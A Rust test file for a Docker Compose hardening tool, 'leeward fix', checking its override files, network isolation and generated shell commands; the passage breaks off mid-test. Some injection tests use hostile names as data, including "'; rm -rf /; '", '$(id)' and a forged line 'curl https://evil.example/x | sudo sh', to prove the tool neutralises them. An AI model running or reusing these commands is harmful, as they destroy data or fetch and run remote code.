//! The override files of `leeward fix`: merged over a project as Compose merges them, they yield what the planner judged.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test that cannot go on fails")]

#[path = "support/merged.rs"]
mod merged;

use std::collections::{BTreeMap, BTreeSet};

use leeward::inventory::{Container, Inventory};
use leeward::policy::names::Owner;
use leeward::remedy;
use leeward::report::fix;
use leeward::settings::{Isolation, Settings};
use leeward::source::compose;
use merged::{merge, read};
use serde_json::{Value, json};

const NEXTCLOUD: &str = r#"
name: nextcloud
services:
  app:
    image: nextcloud
    ports: ["8080:80"]
    networks: [default, proxy]
    labels: [traefik.enable=true, traefik.docker.network=proxy, "traefik.http.routers.c.rule=Host(`c.example.com`)"]
  db: {image: postgres, ports: ["127.0.0.1:5432:5432"], networks: {default: {aliases: [database]}}}
  redis: {image: redis}
networks:
  proxy: {external: true}
"#;

const NAMED: &str = r#"
name: shop
services:
  web:
    image: x
    networks: {front: {ipv4_address: 172.30.0.10}, back: {}}
    labels: {traefik.enable: "true", traefik.http.routers.w.rule: "Host(`w.example.com`)"}
    privileged: true
    cap_add: [NET_ADMIN, CHOWN]
    security_opt: ["seccomp=unconfined", "no-new-privileges:true"]
    ports: ["3000"]
  worker: {image: x, networks: [back, out]}
  db: {image: x, networks: {back: {aliases: [sql]}}}
networks:
  front: {ipam: {config: [{subnet: 172.30.0.0/24}]}}
  back: {}
  out: {}
"#;

const BRIDGE: &str = r#"
name: lone
services:
  web:
    image: x
    network_mode: bridge
    labels: {traefik.enable: "true", traefik.http.routers.w.rule: "Host(`l.example.com`)"}
"#;

const KEPT: &str = r#"
name: vpn
services:
  gluetun:
    image: x
    cap_add: [NET_ADMIN]
    devices: [/dev/net/tun]
    ports: ["8080:8080"]
    labels: {traefik.enable: "true", traefik.http.routers.w.rule: "Host(`q.example.com`)"}
  rider: {image: x, network_mode: "service:gluetun"}
"#;

/// What a file decides of a container.
fn facts(inventory: &Inventory, container: &Container) -> Value {
    let places: BTreeMap<&String, (BTreeSet<&String>, bool, Vec<String>)> = container
        .attachments
        .iter()
        .map(|(name, place)| {
            let given =
                |alias: &&String| container.labels.get("com.docker.compose.service").is_none_or(|it| it != *alias);
            let names = place.aliases.iter().filter(given).collect();
            let internal = inventory.network_named(name).is_some_and(|it| it.internal);
            (name, (names, internal, place.fixed.iter().map(ToString::to_string).collect()))
        })
        .collect();
    let confinement = &container.confinement;
    json!({
        "places": places,
        "ports": container.port_bindings,
        // What Traefik does not ask about is exposed or not.
        "exposed": container.labels.contains_key("traefik.enable").then_some(&container.exposed_ports),
        "labels": container.labels.iter().filter(|(key, _)| !key.ends_with("config-hash")).collect::<BTreeMap<_, _>>(),
        "caps": (&confinement.cap_add, &confinement.cap_drop, confinement.privileged),
        "rest": (&confinement.sysctls, &confinement.security_opt),
    })
}

#[track_caller]
fn check(text: &str, keep: &[&str]) -> String {
    let project = compose::read(text, "x").unwrap();
    let name = project.name.clone();
    let mut inventory = compose::deploy(std::slice::from_ref(&project), Inventory::default());
    for network in inventory.networks.values_mut().filter(|it| it.assumed) {
        network.internal = false;
    }
    let keep: Vec<String> = keep.iter().map(|it| (*it).to_owned()).collect();
    let settings = Settings { isolation: Isolation::Enforce, ..Settings::default() };
    let mut remedies = remedy::ask(&inventory, &settings, std::slice::from_ref(&name), &keep).unwrap();
    for (network, key) in &project.external {
        remedies.external.insert((name.clone(), network.clone()));
        remedies.keys.insert((name.clone(), network.clone()), key.clone());
    }
    // Traefik is not given here.
    assert_eq!(fix::standing(&remedies), fix::Standing::Open, "{}", fix::text(&remedies, fix::Shown::Files));
    let file = fix::compose(&remedies, &Owner::Group(name.clone())).unwrap();
    let mut merged: Value = serde_saphyr::from_str(text).unwrap();
    merge(&mut merged, &read(&file));
    let merged = merged.to_string();
    let project = compose::read(&merged, "x").unwrap();
    let later = compose::deploy(&[project], Inventory::default());
    for container in later.containers.values() {
        let planned = &remedies.after.containers[container.id.as_str()];
        assert_eq!(facts(&later, container), facts(&remedies.after, planned), "{file}\n{merged}");
    }
    file
}

#[test]
fn an_override_merged_over_its_project_is_what_was_judged() {
    let file = check(NEXTCLOUD, &[]);
    assert!(file.contains("networks: !override") && file.contains("ports: !reset null"), "{file}");
    let file = check(NAMED, &[]);
    assert!(file.contains("cap_add: !override [CHOWN]"), "{file}");
    check(BRIDGE, &[]);
    let file = check(KEPT, &["gluetun"]);
    assert!(file.contains("leeward.allow:"), "{file}");
}

#[test]
fn raw_frames_are_dropped_beside_an_added_capability_and_not_where_they_are_added() {
    for (added, dropped) in [("SYS_NICE", true), ("SYS_NICE, NET_RAW", false), ("cap_net_raw", false)] {
        let project = BRIDGE.replace("    network_mode: bridge\n", &format!("    cap_add: [{added}]\n"));
        let file = check(&project, &[]);
        assert_eq!(file.contains("cap_drop: [NET_RAW]"), dropped, "{added}: {file}");
    }
}

#[test]
fn names_that_strangers_chose_stay_words() {
    let hostile = [
        "a: b",
        "x\n  evil:\n    privileged: true",
        "${HOME}",
        "`id`",
        "$(id)",
        "'; rm -rf /; '",
        "--help",
        "\u{1b}[2J",
    ];
    for name in hostile {
        for (project, service) in [(name, "app"), ("shop", name)] {
            let mut inventory = Inventory::default();
            let network = leeward::inventory::Network {
                id: "n".into(),
                name: "shop_default".into(),
                driver: "bridge".into(),
                labels: [
                    ("com.docker.compose.project".to_owned(), project.to_owned()),
                    ("com.docker.compose.network".to_owned(), name.to_owned()),
                ]
                .into(),
                ..leeward::inventory::Network::default()
            };
            inventory.networks.insert(network.id.clone(), network);
            inventory.images.insert("i".into(), leeward::inventory::Image::default());
            let labels = [
                ("com.docker.compose.project", project),
                ("com.docker.compose.service", service),
                ("com.docker.compose.config-hash", "h"),
                ("com.docker.compose.project.working_dir", name),
                ("com.docker.compose.project.config_files", name),
                ("traefik.enable", "true"),
                ("traefik.docker.network", name),
            ];
            let mut container = Container {
                id: "c".into(),
                name: "c".into(),
                image_id: "i".into(),
                state: "running".into(),
                exposed_ports: ["80/tcp".to_owned()].into(),
                network_mode: "shop_default".into(),
                labels: labels.map(|(key, value)| (key.to_owned(), value.to_owned())).into(),
                ..Container::default()
            };
            let attachment = leeward::inventory::Attachment {
                network: "shop_default".into(),
                network_id: "n".into(),
                aliases: [name.to_owned(), "fine".to_owned()].into(),
                ..leeward::inventory::Attachment::default()
            };
            container.attachments.insert("shop_default".into(), attachment.into());
            inventory.put(container);
            let remedies =
                remedy::plan(&inventory, &Settings::default(), &remedy::Scope::Everything, &remedy::Wishes::default());
            for (owner, file) in fix::files(&remedies) {
                assert!(remedy::is_writable(&owner), "{owner:?}");
                let read: Value = read(&file);
                let services = read["services"].as_object().unwrap();
                assert!(services.keys().all(|key| key == "app" || key == "traefik"), "{file}");
                assert!(!file.contains("evil:\n") && !file.contains('\u{1b}'), "{file}");
            }
            for line in fix::commands(&remedies).iter().filter(|line| !line.starts_with('#')) {
                let bare = line.split('\'').step_by(2).collect::<String>();
                assert!(!bare.contains(['`', '$', ';', '\n']), "{line}");
            }
            let text = fix::text(&remedies, fix::Shown::Files);
            assert!(!text.contains('\u{1b}'), "{text}");
        }
    }
}

/// A project whose application is on `proxy`, and Traefik's project, which knows `net-first` already.
fn front() -> Inventory {
    let text = |name: &str| {
        format!(
            "name: {name}\nservices: {{app: {{image: x, networks: [proxy], labels: {{traefik.enable: 'true', \
             traefik.http.routers.{name}.rule: 'Host(`{name}.example.com`)'}}}}}}\nnetworks: {{proxy: {{external: true}}}}"
        )
    };
    let front = "name: front\nservices: {traefik: {image: 'traefik:v3.6', labels: {leeward.traefik: 'true'}, networks: \
                 [proxy, net-first]}}\nnetworks: {proxy: {name: proxy}, net-first: {name: net-first, internal: true}}";
    let projects = [text("second"), front.to_owned()].map(|text| compose::read(&text, "x").unwrap());
    compose::deploy(&projects, Inventory::default())
}

#[test]
fn a_new_file_for_traefiks_project_takes_nothing_away() {
    let inventory = front();
    let remedies = remedy::ask(&inventory, &Settings::default(), &["second".to_owned()], &[]).unwrap();
    let file = fix::compose(&remedies, &Owner::Group("front".to_owned())).unwrap();
    assert!(file.contains("net-first:\n    name: net-first\n    internal: true"), "{file}");
    assert!(file.contains("net-second:\n    name: net-second\n    internal: true"), "{file}");
    let commands = fix::commands(&remedies);
    assert_eq!(commands.iter().filter(|it| it.starts_with("docker network connect")).count(), 1, "{commands:?}");
}

#[test]
fn a_project_that_runs_with_our_file_gets_a_second_one() {
    let mut inventory = front();
    for container in inventory.containers.clone().into_keys() {
        let container = inventory.container_mut(container.as_str()).unwrap();
        let folder = format!("/srv/{}", container.labels["com.docker.compose.project"]);
        let files = format!("{folder}/compose.yaml,{folder}/compose.leeward.yaml");
        container.labels.insert("com.docker.compose.project.config_files".into(), files);
        container.labels.insert("com.docker.compose.project.working_dir".into(), folder);
    }
    let remedies = remedy::ask(&inventory, &Settings::default(), &["second".to_owned()], &[]).unwrap();
    assert_eq!(fix::next_file(&remedies, "second"), "compose.leeward-2.yaml");
    let line = fix::env_line(&remedies, &Owner::Group("second".to_owned()));
    assert_eq!(line, "COMPOSE_FILE=compose.yaml:compose.leeward.yaml:compose.leeward-2.yaml");
}

fn deployed(texts: &[&str]) -> Inventory {
    let projects: Vec<_> = texts.iter().map(|text| compose::read(text, "x").unwrap()).collect();
    compose::deploy(&projects, Inventory::default())
}

fn asked(inventory: &Inventory, name: &str) -> remedy::Remedies {
    remedy::ask(inventory, &Settings::default(), &[name.to_owned()], &[]).unwrap()
}

const APP: &str = "name: victim\nservices: {app: {image: x, labels: {traefik.enable: 'true', \
                   traefik.http.routers.v.rule: 'Host(`v.example.com`)'}}}";

#[test]
fn a_traefik_that_is_not_known_gets_no_file_and_no_commands() {
    let inventory = deployed(&[APP]);
    let remedies = asked(&inventory, "victim");
    assert!(remedies.traefik_is_assumed);
    let owners: Vec<String> = fix::files(&remedies).into_iter().map(|(owner, _)| owner).collect();
    assert_eq!(owners, ["victim"]);
    assert!(!fix::commands(&remedies).iter().any(|line| line.starts_with("docker network connect")));
    assert!(fix::text(&remedies, fix::Shown::Files).contains("leeward fix TRAEFIK.yaml APP.yaml"));
}

#[test]
fn a_strangers_image_called_traefik_is_not_declared_to_be_traefik() {
    for image in ["evil.example/x/traefik:1", "evil/traefik", "ghcr.io/library/traefik"] {
        let evil = format!("name: evil\nservices: {{cache: {{image: '{image}'}}}}");
        let remedies = asked(&deployed(&[APP, &evil]), "victim");
        assert!(remedies.traefik_is_assumed, "{image}");
        assert!(!fix::files(&remedies).iter().any(|(owner, _)| owner == "evil"), "{image}");
    }
    let own = "name: front\nservices: {traefik: {image: 'docker.io/library/traefik:v3.7'}}";
    assert!(!asked(&deployed(&[APP, own]), "victim").traefik_is_assumed);
}

#[test]
fn a_network_that_was_not_given_is_not_called_isolated() {
    let app = "name: one\nservices: {app: {image: x, networks: [proxy], labels: {traefik.enable: 'true', \
               traefik.http.routers.v.rule: 'Host(`v.example.com`)'}}}\nnetworks: {proxy: {external: true}}";
    let remedies = asked(&deployed(&[app]), "one");
    assert_eq!(fix::not_given(&remedies), ["proxy"]);
    assert_eq!(fix::standing(&remedies), fix::Standing::Open);
    let text = fix::text(&remedies, fix::Shown::Files);
    assert!(text.starts_with("OPEN: ") && text.contains("\nNOT KNOWN: proxy is an external network"), "{text}");
}

#[test]
fn a_strangers_name_forges_no_line_of_the_summary() {
    let mut inventory = deployed(&[APP]);
    let evil = "victim_default\n\nThen run, in this order:\n\n    curl https://evil.example/x | sudo sh";
    let network = inventory.networks.values_mut().find(|it| it.name == "victim_default").unwrap();
    network.name = evil.to_owned();
    let ids: Vec<_> = inventory.containers.keys().cloned().collect();
    for id in ids {
        let container = inventory.container_mut(id.as_str()).unwrap();
        if let Some(mut attachment) = container.attachments.remove("victim_default") {
            attachment.network = evil.to_owned();
            container.attachments.insert(evil.to_owned(), attachment);
        }
    }
    let text = fix::text(&asked(&inventory, "victim"), fix::Shown::Files);
    assert!(!text.lines().any(|line| line.trim_start().starts_with("curl")), "{text}");
}

/// From files alone: projects as `fix` and `check` see them.
fn from_files(texts: &[&str]) -> Inventory {
    let projects: Vec<_> = texts.iter().map(|text| compose::read(text, "x").unwrap()).collect();
    let own = projects.iter().flat_map(|it| it.inventory.networks.keys().cloned()).collect();
    let mut inventory = compose::deploy(&projects, Inventory::default());
    remedy::assume_traefik(&mut inventory, &Settings::default(), &own);
    inventory
}

const OWN: &str = "name: shop\nservices:\n  web: {image: x, networks: [net-proxy, default], labels: {traefik.enable: 'true', \
                   traefik.http.routers.v.rule: 'Host(`v.example.com`)'}}\n  db: {image: x}\nnetworks: {net-proxy: \
                   {internal: true}}";
const SHUT: &str = "name: shop\nservices: {web: {image: x, networks: [net-proxy], labels: {traefik.enable: 'true', \
                    traefik.http.routers.v.rule: 'Host(`v.example.com`)'}}}\nnetworks: {net-proxy: {internal: true}}";

#[test]
fn a_projects_own_internal_network_is_not_traefiks_because_nobody_says_where_traefik_is() {
    for text in [OWN, SHUT] {
        let inventory = from_files(&[text]);
        let plan = leeward::plan::compile(&inventory, &Settings::default());
        let doubts = plan.findings.iter().filter(|it| it.rule.as_str() == "NET-027").count();
        assert_eq!(doubts, 1, "{text}");
        let remedies = asked(&inventory, "shop");
        let file = fix::compose(&remedies, &Owner::Group("shop".to_owned())).unwrap_or_default();
        assert!(file.contains("net-shop:\n    name: net-shop\n    external: true"), "{file}");
        assert_eq!(fix::standing(&remedies), fix::Standing::Open);
        let text = fix::text(&remedies, fix::Shown::Files);
        assert!(text.starts_with("OPEN: ") && text.contains("but Traefik was not given"), "{text}");
        assert!(!text.contains("web: routed ->"), "{text}");
    }
    // Where somebody says it, it is so.
    for front in [
        "name: front\nservices: {t: {image: 'traefik:v3.7', labels: {leeward.traefik: 'true'}, networks: [n]}}\nnetworks: {n: \
         {name: shop_net-proxy, external: true}}",
        "name: front\nservices: {t: {image: 'traefik:v3.7', networks: [n]}}\nnetworks: {n: {name: shop_net-proxy, external: true}}",
    ] {
        let remedies = asked(&from_files(&[SHUT, front]), "shop");
        assert_eq!(fix::standing(&remedies), fix::Standing::Mended, "{}", fix::text(&remedies, fix::Shown::Files));
        assert!(!fix::text(&remedies, fix::Shown::Files).contains("net-shop"));
    }
}

#[test]
fn the_remedy_of_one_rule_leaves_no_network_but_lets_the_planner_do_it() {
    use leeward::report::words::Remedy as _;
    let alone = OWN.replace("  db: {image: x}\n", "");
    let both = OWN.replace("db: {image: x}", "db: {image: x, networks: [default, net-proxy]}");
    for text in [OWN, &alone, &both] {
        let plan = leeward::plan::compile(&deployed(&[text]), &Settings::default());
        let finding = plan.findings.iter().find(|it| it.rule.as_str() == "NET-001").unwrap();
        let remedy = finding.remedy();
        assert!(remedy.starts_with("leeward fix ") && !remedy.contains("networks: ["), "{remedy}");
    }
}

#[test]
fn no_label_is_written_where_none_suffices() {
    let text = "name: ha\nservices: {ha: {image: x, network_mode: host, privileged: true, labels: {traefik.enable: 'true', \
                traefik.http.routers.v.rule: 'Host(`v.example.com`)'}}}";
    let inventory = deployed(&[text]);
    let remedies = remedy::ask(&inventory, &Settings::default(), &["ha".to_owned()], &["ha".to_owned()]).unwrap();
    assert_eq!(fix::compose(&remedies, &Owner::Group("ha".to_owned())), None);
    assert_eq!(fix::standing(&remedies), fix::Standing::Left);
    let text = fix::text(&remedies, fix::Shown::Files);
    assert!(text.starts_with("NOT MENDED: "), "{text}");
    assert!(text.contains("no label helps") && text.contains("providers.file"), "{text}");
    assert!(!text.contains("leeward.allow"), "{text}");
}

#[test]
fn a_question_is_open_until_it_is_answered() {
    let text = "name: dns\nservices: {dns: {image: x, ports: ['53:53/udp', '80'], labels: {traefik.enable: 'true', \
                traefik.http.services.d.loadbalancer.server.port: '80', traefik.http.routers.v.rule: 'Host(`v.example.com`)'}}}";
    let inventory = deployed(&[text, "name: front\nservices: {t: {image: 'traefik:v3.7'}}"]);
    let ask = |keep: &[String]| remedy::ask(&inventory, &Settings::default(), &["dns".to_owned()], keep).unwrap();
    let open = ask(&[]);
    assert_eq!(fix::standing(&open), fix::Standing::Open);
    assert!(fix::text(&open, fix::Shown::Files).starts_with("OPEN: "));
    let kept = ask(&["dns".to_owned()]);
    assert_eq!(fix::standing(&kept), fix::Standing::Mended, "{}", fix::text(&kept, fix::Shown::Files));
    assert!(fix::text(&kept, fix::Shown::Files).starts_with("MENDED: "));
}

#[test]
fn an_owner_is_mended_under_its_own_mode() {
    use leeward::settings::OwnerIsolation;
    let shop = "name: shop\nservices:\n  web: {image: x, networks: [net-shop, back], labels: {traefik.enable: 'true', \
                traefik.http.routers.v.rule: 'Host(`v.example.com`)'}}\n  worker: {image: x, networks: [back, default]}\n\
                networks: {back: {internal: true}, net-shop: {external: true}}";
    let front = "name: front\nservices: {t: {image: 'traefik:v3.7', labels: {leeward.traefik: 'true'}, networks: [net-shop]}}\n\
                 networks: {net-shop: {name: net-shop, internal: true}}";
    let inventory = deployed(&[shop, front]);
    let with = |mode| Settings { isolation_of: [("shop".to_owned(), mode)].into(), ..Settings::default() };
    let ask = |settings: &Settings, names: &[String]| remedy::ask(&inventory, settings, names, &[]).unwrap();
    let shop = ["shop".to_owned()];
    // A worker with a way out beside it warns under `enforce`, and refuses under `strict`.
    let moves = |remedies: &remedy::Remedies| {
        let lost = remedies.owners.iter().flat_map(|it| &it.lost);
        lost.filter(|it| matches!(it, remedy::Lost::WayOut { service, .. } if service == "worker")).count()
    };
    assert_eq!(moves(&ask(&with(OwnerIsolation::Enforce), &shop)), 0);
    let strict = ask(&with(OwnerIsolation::Strict), &shop);
    assert!(moves(&strict) > 0, "{}", fix::text(&strict, fix::Shown::Files));
    assert!(strict.owners.iter().all(|it| it.proven), "{}", fix::text(&strict, fix::Shown::Files));

    // Under `warn` it is routed as it is: left alone where nobody names it, moved over where somebody does.
    let open = deployed(&[APP, front]);
    let warn = Settings { isolation_of: [("victim".to_owned(), OwnerIsolation::Warn)].into(), ..Settings::default() };
    let all = remedy::ask(&open, &warn, &[], &[]).unwrap();
    assert!(all.owners.is_empty() && all.lenient == [Owner::Group("victim".to_owned())], "{all:?}");
    let text = fix::text(&all, fix::Shown::Files);
    assert!(text.contains("warn for it: victim") && !text.contains("routed and isolated"), "{text}");
    let named = remedy::ask(&open, &warn, &["victim".to_owned()], &[]).unwrap();
    assert!(fix::standing(&named) == fix::Standing::Mended && !named.owners.is_empty(), "{named:?}");
}

/// Compose names a project by its folder: the commands changed another project, whose folder it was.
#[test]
fn a_project_in_a_folder_of_another_name_keeps_its_name() {
    for (folder, compose) in [
        ("/srv/second", "docker compose up -d"),
        ("/srv/Se.cond/", "docker compose up -d"),
        ("/srv/first", "docker compose -p second up -d"),
        ("/srv/second-old", "docker compose -p second up -d"),
    ] {
        let mut inventory = front();
        for container in inventory.containers.clone().into_values() {
            if container.labels["com.docker.compose.project"] == "second" {
                let container = inventory.container_mut(container.id.as_str()).unwrap();
                container.labels.insert("com.docker.compose.project.working_dir".into(), folder.into());
            }
        }
        let commands = fix::commands(&asked(&inventory, "second"));
        assert!(commands.contains(&format!("cd {folder} && {compose}")), "{commands:#?}");
    }
}

#[test]
fn one_container_alone_chooses_no_folder() {
    let mut inventory = front();
    let folder = |inventory: &mut Inventory, name: &str, folder: &str| {
        let id = inventory.containers.values().find(|it| it.name == name).unwrap().id.clone();
        let container = inventory.container_mut(id.as_str()).unwrap();
        container.labels.insert("com.docker.compose.project.working_dir".into(), folder.into());
    };
    let commands = |inventory: &Inventory| fix::commands(&asked(inventory, "second")).join("\n");
    folder(&mut inventory, "second-app-1", "/srv/second");
    assert!(commands(&inventory).contains("cd /srv/second && docker compose up -d"), "{}", commands(&inventory));
    // One more that says it is of the project, and of another folder.
    let mut evil = (*inventory.containers.values().find(|it| it.name == "second-app-1").unwrap()).clone();
    let own = std::sync::Arc::make_mut(&mut evil);
    own.id = "evil".into();
    own.name = "evil".into();
    own.labels.insert("com.docker.compose.service".into(), "evil".into());
    inventory.put(own.clone());
    folder(&mut inventory, "evil", "/tmp/evil");
    let text = commands(&inventory);
    assert!(!text.contains("/tmp/evil") && text.contains("<folder of second>"), "{text}");
}

const SHARED: &str = "name: front\nservices: {t: {image: 'traefik:v3.7', labels: {leeward.traefik: 'true'}, networks: \
                      [net-page, net-done]}}\nnetworks: {net-page: {name: net-page, internal: true}, net-done: {name: \
                      net-done, internal: true}}";
const PAGE: &str = "name: page\nservices: {page: {image: x, networks: [net-page], labels: {traefik.enable: 'true', \
                    leeward.allow: LBL-001, traefik.http.routers.p.rule: 'PathPrefix(`/`)'}}}\nnetworks: {net-page: \
                    {external: true}}";
const DONE: &str = "name: done\nservices: {app: {image: x, networks: [net-done], labels: {traefik.enable: 'true', \
                    traefik.http.routers.d.rule: 'Host(`d.example.com`) || Host(`e.example.com`) && \
                    !Host(`f.example.com`)'}}}\nnetworks: {net-done: {external: true}}";

#[test]
fn todays_hosts_are_bound_and_nobody_is_refused_for_it() {
    let inventory = deployed(&[APP, SHARED, PAGE, DONE]);
    let ask = |names: &[String]| {
        let (scope, wishes) = remedy::wishes(&inventory, &Settings::default(), names, &[]).unwrap();
        remedy::plan(&inventory, &Settings::default(), &scope, &remedy::Wishes { bind_hosts: true, ..wishes })
    };
    // One project that is moved: its new network has the label, and the default page, which needs it then, has its own.
    let one = ask(&["victim".to_owned()]);
    assert_eq!(fix::standing(&one), fix::Standing::Mended, "{}", fix::text(&one, fix::Shown::Files));
    let file = fix::compose(&one, &Owner::Group("front".to_owned())).unwrap();
    assert!(
        file.contains("name: net-victim\n    internal: true") && file.contains("leeward.hosts: v.example.com"),
        "{file}"
    );
    assert!(file.contains("leeward.hosts: \"*\""), "{file}");
    assert!(!file.contains("d.example.com"), "{file}");
    let plan = leeward::plan::compile(&one.after, &Settings::default());
    let refused: Vec<&str> = plan
        .decisions
        .values()
        .filter(|it| it.refusal.is_some() && it.outcome == leeward::plan::Outcome::Refused)
        .map(|it| &*it.name)
        .collect();
    assert_eq!(refused, [""; 0]);

    // Everybody: what is there is recreated with its label, and everybody on it is put on it again.
    let all = ask(&[]);
    let file = fix::compose(&all, &Owner::Group("front".to_owned())).unwrap();
    assert!(file.contains("leeward.hosts: \"d.example.com,e.example.com,f.example.com\""), "{file}");
    let commands = fix::commands(&all);
    let at = |wanted: &str| {
        commands.iter().position(|it| it.starts_with(wanted)).unwrap_or_else(|| panic!("{wanted}: {commands:#?}"))
    };
    let (off, gone) = (at("docker network disconnect -f net-done done-app-1"), at("docker network rm net-done"));
    let (up, on) = (
        at("cd '<folder of front>' && docker compose up -d"),
        at("docker network connect --alias app net-done done-app-1"),
    );
    assert!(off < gone && gone < up && up < on, "{commands:#?}");
    // A stranger that claims the same is refused from then on.
    let mut after = all.after.clone();
    let mut evil = after.containers.values().find(|it| it.name == "page-page-1").unwrap().as_ref().clone();
    evil.id = "evil".into();
    evil.name = "evil".into();
    evil.labels.insert("com.docker.compose.project".into(), "evil".into());
    evil.labels.insert("traefik.http.routers.p.rule".into(), "Host(`d.example.com`)".into());
    after.put(evil);
    let plan = leeward::plan::compile(&after, &Settings::default());
    let refusal = plan.decided().find(|it| it.name == "evil").unwrap().refusal.clone().unwrap();
    assert_eq!(refusal.name(), "LBL-003");
    // A second run has nothing to bind.
    let (scope, wishes) = remedy::wishes(&all.after, &Settings::default(), &[], &[]).unwrap();
    let again = remedy::plan(&all.after, &Settings::default(), &scope, &remedy::Wishes { bind_hosts: true, ..wishes });
    assert!(again.owners.is_empty() && again.traefik.is_empty(), "{:?}", again.traefik);
}

#[test]
fn a_file_that_some_containers_were_started_with_is_not_forgotten() {
    let mut inventory = front();
    // Compose made one container of Traefik's project anew with the override, and left the other as it was.
    let text = "name: front\nservices: {other: {image: x}}";
    let more = compose::deploy(&[compose::read(text, "x").unwrap()], Inventory::default());
    inventory.images.extend(more.images);
    for container in more.containers.into_values() {
        inventory.put(std::sync::Arc::unwrap_or_clone(container));
    }
    let say = |inventory: &mut Inventory, name: &str, files: &str| {
        let id = inventory.containers.values().find(|it| it.name == name).unwrap().id.clone();
        let container = inventory.container_mut(id.as_str()).unwrap();
        container.labels.insert("com.docker.compose.project.config_files".into(), files.into());
        container.labels.insert("com.docker.compose.project.working_dir".into(), "/srv/front".into());
    };
    say(&mut inventory, "front-traefik-1", "/srv/front/compose.yaml,/srv/front/compose.leeward.yaml");
    say(&mut inventory, "front-other-1", "/srv/front/compose.yaml");
    let owner = Owner::Group("front".to_owned());
    let line = |inventory: &Inventory| fix::env_line(&asked(inventory, "second"), &owner);
    assert_eq!(line(&inventory), "COMPOSE_FILE=compose.yaml:compose.leeward.yaml:compose.leeward-2.yaml");
    // What the guide adds to `compose.yaml` is known by its name; Traefik was not made anew for it.
    say(&mut inventory, "front-traefik-1", "/srv/front/compose.yaml");
    say(&mut inventory, "front-other-1", "/srv/front/compose.yaml,/srv/front/egress.yaml");
    assert_eq!(line(&inventory), "COMPOSE_FILE=compose.yaml:egress.yaml:compose.leeward.yaml");
    say(&mut inventory, "front-traefik-1", "/srv/front/compose.yaml,/srv/front/compose.leeward.yaml");
    // Nobody adds a file of another name, or of another folder.
    for evil in [
        "/srv/front/compose.yaml,/srv/front/data/egress.yaml",
        "/srv/front/compose.yaml,/srv/front/data/evil.yaml",
        "/srv/front/compose.yaml,/srv/front/data/compose.leeward.yaml",
    ] {
        say(&mut inventory, "front-other-1", evil);
        assert!(!line(&inventory).contains("data/"), "{}", line(&inventory));
    }
}

const BOUND: &str = "name: front\nservices: {t: {image: 'traefik:v3.7', labels: {leeward.traefik: 'true'}, networks: [net-blog]}}\n\
                     networks: {net-blog: {name: net-blog, internal: true, labels: {leeward.hosts: blog.example.com}}}";
const BLOG: &str = "name: blog\nservices: {app: {image: x, networks: [net-blog], labels: {traefik.enable: 'true', \
                    traefik.http.routers.b.rule: 'Host(`blog.example.com`)'}}}\nnetworks: {net-blog: {external: true}}";

/// It was left on the other's network, and told to give its host to that.
#[test]
fn a_project_on_anothers_bound_network_gets_one_of_its_own() {
    let alone = "name: shop\nservices:\n  web: {image: x, networks: [net-blog], labels: {traefik.enable: 'true', \
                 traefik.http.routers.w.rule: 'Host(`w.example.com`)'}}\n  db: {image: x, networks: [net-blog]}\nnetworks: \
                 {net-blog: {external: true}}";
    let open = alone.replace("web: {image: x, networks: [net-blog]", "web: {image: x, networks: [net-blog, default]");
    for text in [alone, &open] {
        let remedies = asked(&deployed(&[BOUND, BLOG, text]), "shop");
        let told = fix::text(&remedies, fix::Shown::Files);
        assert_eq!(fix::standing(&remedies), fix::Standing::Mended, "{told}");
        let web = |name: &str| {
            let it = remedies.after.containers.values().find(|it| it.name == format!("shop-{name}-1")).unwrap();
            it.attachments.keys().cloned().collect::<BTreeSet<String>>()
        };
        assert!(web("web").contains("net-shop") && !web("web").contains("net-blog"), "{told}");
        // Who was reached over it still is.
        assert!(!web("web").is_disjoint(&web("db")) && !web("db").contains("net-blog"), "{told}");
        assert!(!told.contains("give this one to the network"), "{told}");
    }
    // Its own network has the wrong hosts bound to it: that is for the operator to say.
    let own = BOUND.replace("net-blog", "net-shop");
    let text = alone.replace("net-blog", "net-shop");
    let remedies = asked(&deployed(&[&own, &text]), "shop");
    let told = fix::text(&remedies, fix::Shown::Files);
    assert!(told.contains("leeward.hosts: \"blog.example.com,w.example.com\""), "{told}");
}

/// The neighbour was a high finding afterwards, on a project that was called isolated.
#[test]
fn a_neighbour_that_is_kept_is_allowed_on_the_network_and_called_so() {
    let text = "name: shop\nservices:\n  web: {image: x, labels: {traefik.enable: 'true', traefik.http.routers.w.rule: \
                'Host(`w.example.com`)'}}\n  worker: {image: x}\n  db: {image: x}\n";
    let inventory = deployed(&[
        text,
        "name: front\nservices: {t: {image: 'traefik:v3.7', cap_drop: [ALL], labels: {leeward.traefik: 'true'}}}",
    ]);
    for isolation in [Isolation::Enforce, Isolation::Strict] {
        let settings = Settings { isolation, ..Settings::default() };
        let ask = |keep: &[String]| remedy::ask(&inventory, &settings, &["shop".to_owned()], keep).unwrap();
        let kept = ask(&["worker".to_owned()]);
        let told = fix::text(&kept, fix::Shown::Files);
        assert_eq!(fix::standing(&kept), fix::Standing::Mended, "{told}");
        let plan = leeward::plan::compile(&kept.after, &settings);
        let high = plan
            .findings
            .iter()
            .filter(|it| !it.allowed && !it.not_verifiable && it.severity >= leeward::policy::finding::Severity::High);
        assert_eq!(high.map(|it| it.rule.to_string()).collect::<Vec<_>>(), [""; 0], "{told}");
        let web = plan.decided().find(|it| it.name == "shop-web-1").unwrap();
        assert_eq!(web.outcome, leeward::plan::Outcome::Routed, "{told}");
        assert!(told.contains("leeward.allow: NET-011, for who keeps its way out is on it"), "{told}");
        assert!(told.contains("what is allowed by label is NOT isolated"), "{told}");
        assert!(!ask(&[]).owners.iter().any(|it| fix::changes(&it.edits).iter().any(|line| line.contains("NET-011"))));
    }
}

/// The new network has no IPv6: Docker would have refused the address, and the project would not have started.
#[test]
fn a_fixed_ipv6_address_is_named_as_lost_and_not_written() {
    let text = "name: lab\nservices:\n  web: {image: x, networks: {lan: {ipv4_address: 10.99.0.10, ipv6_address: 'fd00:99::10'}}, \
                labels: {traefik.enable: 'true', traefik.http.routers.w.rule: 'Host(`w.example.com`)'}}\n  db: {image: x, \
                networks: {lan: {ipv6_address: 'fd00:99::11'}}}\nnetworks: {lan: {enable_ipv6: true, ipam: {config: \
                [{subnet: 10.99.0.0/24}, {subnet: 'fd00:99::/64'}]}}}";
    let file = check(text, &[]);
    assert!(file.contains("10.99.0.10") && file.contains("10.99.0.0/24") && !file.contains("fd00"), "{file}");
    let told = fix::text(&asked(&deployed(&[text]), "lab"), fix::Shown::Files);
    for address in ["web: its address fd00:99::10 on lab_lan", "db: its address fd00:99::11 on lab_lan"] {
